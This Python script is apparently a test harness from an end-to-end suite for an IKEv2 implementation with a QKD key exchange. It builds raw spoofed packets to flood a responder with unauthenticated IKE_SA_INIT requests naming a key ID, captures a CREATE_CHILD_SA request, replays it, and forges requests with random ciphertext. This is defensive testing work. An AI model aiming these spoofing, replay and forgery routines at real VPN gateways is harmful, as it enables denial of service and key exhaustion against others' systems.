#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Hostile IKEv2 input for the e2e tests (s8 of e2e-more.sh): an on-path
attacker who can send spoofed packets and see (but not decrypt) the real
ones.  IPv4, UDP port 500 (no NAT), raw sockets: run it inside a netns.

  ikeattack.py init SRC DST KEY_ID_HEX COUNT
      COUNT spoofed IKE_SA_INIT requests from SRC:500, each from a fresh
      SPI, proposing AES-CBC-256/SHA2-256 with key exchange method qkd
      (64242) and KE data that is a protocol v1 INIT naming KEY_ID (the
      old attack: make the responder spend, or fetch, the key of that ID
      for an unauthenticated peer).
  ikeattack.py capture IFACE FILE TIMEOUT_S
      wait on IFACE for the first CREATE_CHILD_SA request to UDP port 500
      or 4500 and save it (addresses, ports, IKE message, in hex) to FILE.
  ikeattack.py replay FILE COUNT
      send the captured request COUNT times, byte for byte, from its source.
  ikeattack.py junk FILE COUNT
      COUNT CREATE_CHILD_SA requests on the captured IKE_SA (its SPIs and
      the next message IDs) whose encrypted payload is random bytes.

Prints one line per packet sent.  Python's struct rather than scapy (not
in Debian's base system, not in the guest).
"""
import os
import socket
import struct
import sys
import time

IKE_SA_INIT, CREATE_CHILD_SA = 34, 36
F_INITIATOR = 0x08
QKD_METHOD = 64242


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def ip_udp(src, dst, sport, dport, payload):
    udp_len = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, udp_len)
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
    c = csum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, os.getpid() & 0xFFFF, 0, 64, 17, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + udp


def send_raw(src, dst, sport, dport, payload):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.sendto(ip_udp(src, dst, sport, dport, payload), (dst, 0))
    s.close()


def payload(next_type, body):
    return struct.pack("!BBH", next_type, 0, 4 + len(body)) + body


def transform(last, ttype, tid, attr=b""):
    body = struct.pack("!BBH", ttype, 0, tid) + attr
    return struct.pack("!BBH", 0 if last else 3, 0, 4 + len(body)) + body


def ike_sa_init(spi_i, key_id):
    trans = (transform(False, 1, 12, struct.pack("!HH", 0x800E, 256)) +   # ENCR_AES_CBC 256
             transform(False, 2, 5) +                                    # PRF_HMAC_SHA2_256
             transform(False, 3, 12) +                                   # AUTH_HMAC_SHA2_256_128
             transform(True, 4, QKD_METHOD))                             # KE qkd
    prop_body = struct.pack("!BBBB", 1, 1, 0, 4) + trans
    prop = struct.pack("!BBH", 0, 0, 4 + len(prop_body)) + prop_body
    # v1 INIT: version 1, type INIT, no flags, reserved; key ID; X25519
    ke_data = bytes([1, 1, 0, 0]) + key_id + os.urandom(32)
    body = (payload(34, prop) +
            payload(40, struct.pack("!HH", QKD_METHOD, 0) + ke_data) +
            payload(0, os.urandom(32)))
    hdr = struct.pack("!8s8sBBBBII", spi_i, b"\0" * 8, 33, 0x20, IKE_SA_INIT, F_INITIATOR, 0,
                      28 + len(body))
    return hdr + body


def cmd_init(src, dst, key_id_hex, count):
    key_id = bytes.fromhex(key_id_hex.replace("-", ""))
    assert len(key_id) == 16
    for i in range(count):
        spi = os.urandom(8)
        send_raw(src, dst, 500, 500, ike_sa_init(spi, key_id))
        print("sent IKE_SA_INIT %d, SPI %s, KE qkd naming %s" % (i + 1, spi.hex(), key_id.hex()))
        time.sleep(0.2)


def cmd_capture(iface, path, timeout):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((iface, 0))
    s.settimeout(1)
    print("listening on %s" % iface, flush=True)
    end = time.time() + timeout
    while time.time() < end:
        try:
            frame = s.recv(65535)
        except socket.timeout:
            continue
        ip = frame[14:]
        if len(ip) < 20 or ip[9] != 17:
            continue
        ihl = (ip[0] & 0xF) * 4
        sport, dport = struct.unpack("!HH", ip[ihl:ihl + 4])
        ike = ip[ihl + 8:]
        # after IKE_SA_INIT strongSwan floats to 4500 whenever MOBIKE is on
        # (even without a NAT): there IKE has a 4-byte zero marker, ESP not
        if dport == 4500 and ike[:4] == b"\0\0\0\0":
            ike = ike[4:]
        elif dport != 500:
            continue
        if len(ike) < 28:
            continue
        if ike[18] == CREATE_CHILD_SA and ike[19] & F_INITIATOR and not ike[19] & 0x20:
            with open(path, "w") as f:
                f.write("%s %s %d %d %s\n" % (socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20]),
                                              sport, dport, ike.hex()))
            print("captured CREATE_CHILD_SA request, message ID %d, %d bytes" %
                  (struct.unpack("!I", ike[20:24])[0], len(ike)))
            return 0
    print("no CREATE_CHILD_SA request seen")
    return 1


def load(path):
    src, dst, sport, dport, hexmsg = open(path).read().split()
    return src, dst, int(sport), int(dport), bytes.fromhex(hexmsg)


def udp_payload(dport, ike):
    return b"\0\0\0\0" + ike if dport == 4500 else ike


def cmd_replay(path, count):
    src, dst, sport, dport, msg = load(path)
    for i in range(count):
        send_raw(src, dst, sport, dport, udp_payload(dport, msg))
        print("replayed the CREATE_CHILD_SA request (%d)" % (i + 1))
        time.sleep(0.3)


def cmd_junk(path, count):
    src, dst, sport, dport, msg = load(path)
    spis = msg[:16]
    mid = struct.unpack("!I", msg[20:24])[0]
    for i in range(count):
        # SK payload: IV, random "ciphertext", an ICV that cannot verify
        sk = payload(0, os.urandom(16 + 64 + 16))
        hdr = spis + struct.pack("!BBBBII", 46, 0x20, CREATE_CHILD_SA, msg[19], mid + 1 + i,
                                 28 + len(sk))
        send_raw(src, dst, sport, dport, udp_payload(dport, hdr + sk))
        print("sent a forged CREATE_CHILD_SA request, message ID %d" % (mid + 1 + i))
        time.sleep(0.3)


def main(argv):
    if len(argv) == 6 and argv[1] == "init":
        return cmd_init(argv[2], argv[3], argv[4], int(argv[5])) or 0
    if len(argv) == 5 and argv[1] == "capture":
        return cmd_capture(argv[2], argv[3], float(argv[4]))
    if len(argv) == 4 and argv[1] in ("replay", "junk"):
        return (cmd_replay if argv[1] == "replay" else cmd_junk)(argv[2], int(argv[3])) or 0
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
